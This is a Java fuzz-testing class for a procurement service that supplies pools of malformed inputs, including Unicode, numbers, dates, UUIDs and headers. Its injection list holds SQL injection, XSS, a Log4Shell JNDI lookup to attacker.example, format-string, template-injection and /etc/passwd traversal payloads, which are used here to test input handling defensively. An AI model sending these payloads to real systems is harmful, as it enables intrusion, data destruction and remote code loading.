package org.procurement.testing.fuzz;

import java.util.List;

/** The kinds of bad value a fuzz input carries, as pools to draw from. Injection strings have no edge whitespace,
 * so that a service that trims free text must still give them back verbatim. */
final class BadValues {

    private BadValues() {
    }

    static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE procurement_request; --",
            "Robert'); DELETE FROM catalog_item; --",
            "' OR '1'='1",
            "\" OR 1=1 --",
            "1; SELECT pg_sleep(0)",
            "<script>alert('x')</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg/onload=alert(1)>",
            "${jndi:ldap://attacker.example/a}",
            "%s%s%s%n",
            "{{7*7}}",
            "../../../etc/passwd",
            "\\u0000 is not a NUL",
            "{\"$gt\": \"\"}");

    /** Unicode that storage must keep intact, and control characters it may refuse but must not fail on. */
    static final List<String> UNICODE = List.of(
            "Київ – Харків",
            "군사 장비 공급",
            "مرحبا بالعالم",
            "emoji 🚀🛡️ inside",
            "𝕏𝕐ℤ math letters",
            "e\u0301 combining",
            "right\u202Eto-left override",
            "zero\u200Bwidth",
            "nul\u0000inside",
            "bell\u0007and\u001Fescape",
            "tab\tand\nnewline",
            "\uFEFFbyte order mark",
            "non\uFFFFcharacter",
            "delete\u007Fchar");

    static final List<String> NUMBERS = List.of(
            "-1", "0", "-0.0", "1.5", "2147483648", "-2147483649", "9223372036854775808",
            "99999999999999999999999999999999999999", "1e308", "-1e308", "1E+1000000", "1e-400", "0.000000001",
            "123456789012345678.999");

    static final List<String> DATES = List.of(
            "2026-02-30", "2026-13-01", "not a date", "", "99999-12-31", "0000-00-00", "-0001-01-01",
            "2026-11-26T25:61:00Z", "26/11/2026", "2026-11-26 10:00", "1970-01-01T00:00:00+25:00");

    static final List<String> UUIDS = List.of(
            "not-a-uuid", "", "123", "00000000-0000-0000-0000-000000000000", "zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz",
            "0b6f1c2e-3d4a-5b6c-7d8e-9f0a1b2c3d4e5", "{0b6f1c2e-3d4a-5b6c-7d8e-9f0a1b2c3d4e}", "' OR 1=1 --");

    static final List<String> ENUMS = List.of("", "unknown", "APPROVE; DROP TABLE decision", "ÜBERFLUSS", "0", "null");

    static final List<String> HEADERS = List.of(
            "", "garbage", "\"999999\"", "*", "W/\"1\"", "\"-1\"", "\"\"", "' OR 1=1 --", "x".repeat(101),
            "y".repeat(2000), "\"9223372036854775808\"");

    /** A string of exactly {@code length} characters (UTF-16 units) made of {@code unit}s. */
    static String ofLength(String unit, int length) {
        StringBuilder out = new StringBuilder(length + unit.length());
        while (out.length() < length) {
            out.append(unit);
        }
        out.setLength(length);
        return out.toString();
    }
}
